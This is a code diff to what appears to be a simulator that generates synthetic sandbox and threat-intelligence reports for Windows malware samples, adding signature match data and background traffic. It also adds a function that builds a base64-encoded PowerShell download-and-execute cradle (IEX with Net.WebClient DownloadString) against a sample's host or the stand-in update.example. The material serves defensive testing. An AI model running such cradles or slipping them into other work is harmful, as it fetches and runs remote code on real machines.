@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
+import base64
 from random import Random
 from typing import Any
 
-from iocgate.sim.network import network_attributes
+from iocgate.sim.network import add_background_traffic, network_attributes
 from iocgate.sim.profile import FileProfile
 from iocgate.sim.signatures import SIGMA_RULES, Signature
 from iocgate.sim.vocabulary import (
@@ -58,11 +59,14 @@ def windows_attributes(
     scale = max(1, int(profile.scale * rng.uniform(0.7, 1.3)))
     sample = f"%SAMPLEPATH%\\{profile.sample_name}"
     signatures = [sig for sig in profile.signatures if rng.random() < 0.75]
-    commands = [f'"{sample}" '] + [
-        _COMMANDS[sig.technique].format(word=rng.choice(WORDS), b64=_b64ish(rng))
+    by_technique = {
+        sig.technique: _COMMANDS[sig.technique].format(
+            word=rng.choice(WORDS), b64=_encoded_command(_b64ish(rng), profile)
+        )
         for sig in signatures
         if sig.technique in _COMMANDS
-    ]
+    }
+    commands = [f'"{sample}" ', *by_technique.values()]
     attributes: dict[str, Any] = {}
     if "processes" in features or "tree" in features:
         attributes["processes_tree"] = _tree(rng, commands, depth=3 if scale < 500 else 12)
@@ -111,10 +115,14 @@ def windows_attributes(
         attributes.update(
             network_attributes(rng, profile, user_agent=_USER_AGENT, with_ids="ids" in features)
         )
+        add_background_traffic(Random(f"{profile.sha256}/background"), attributes)
     if "signatures" in features or "mitre" in features:
         attributes.update(
             signature_attributes(
-                signatures, with_matches="signatures" in features, with_mitre="mitre" in features
+                signatures,
+                with_matches="signatures" in features,
+                with_mitre="mitre" in features,
+                commands=by_technique,
             )
         )
     if "sigma" in features:
@@ -129,9 +137,17 @@ def windows_attributes(
 
 
 def signature_attributes(
-    signatures: list[Signature], *, with_matches: bool, with_mitre: bool
+    signatures: list[Signature],
+    *,
+    with_matches: bool,
+    with_mitre: bool,
+    commands: dict[str, str] | None = None,
 ) -> dict[str, Any]:
-    """`signature_matches` and `mitre_attack_techniques`, cross-referenced as VirusTotal does."""
+    """`signature_matches` and `mitre_attack_techniques`, cross-referenced as VirusTotal does.
+
+    A signature whose technique ran a command names that command line in its `match_data`,
+    as sandboxes do, so the process that triggered it can be found (#22.4)."""
+    commands = commands or {}
     attributes: dict[str, Any] = {}
     if with_matches:
         attributes["signature_matches"] = [
@@ -139,7 +155,10 @@ def signature_attributes(
                 "id": sig.id,
                 "description": sig.description,
                 "severity": f"IMPACT_SEVERITY_{sig.severity}",
-                "match_data": [sig.description],
+                "match_data": [
+                    sig.description,
+                    *([commands[sig.technique]] if sig.technique in commands else []),
+                ],
             }
             for sig in signatures
         ]
@@ -163,6 +182,14 @@ def signature_attributes(
 def _b64ish(rng: Random) -> str:
     alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
     return "".join(rng.choice(alphabet) for _ in range(48)) + "=="
+
+
+def _encoded_command(drawn: str, profile: FileProfile) -> str:
+    """A real `-enc` payload (base64 of UTF-16LE PowerShell) in place of the drawn letters,
+    which still pick the script name, so the random stream stays as it was."""
+    host = profile.hosts[0].name if profile.hosts else "update.example"
+    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{host}/{drawn[:6]}.ps1')"
+    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")
 
 
 def _image(command: str) -> str:
